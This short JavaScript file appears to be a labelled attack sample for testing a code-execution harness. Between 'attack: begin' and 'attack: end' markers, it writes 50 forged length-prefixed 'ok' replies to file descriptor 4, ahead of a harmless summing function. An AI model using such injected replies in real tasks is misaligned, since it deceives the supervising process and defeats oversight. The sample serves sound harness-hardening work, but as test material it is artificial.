// category: forging
// tries: replies to calls that were not made yet
// attack: begin
const frame = (text) => {
  const body = Buffer.from(text);
  const head = Buffer.alloc(4);
  head.writeUInt32LE(body.length);
  return Buffer.concat([head, body]);
};
for (let i = 0; i < 50; i++) require('fs').writeSync(4, frame('["ok",0,null]'));
// attack: end
function total(numbers) {
  return numbers.reduce((sum, number) => sum + number, 0);
}
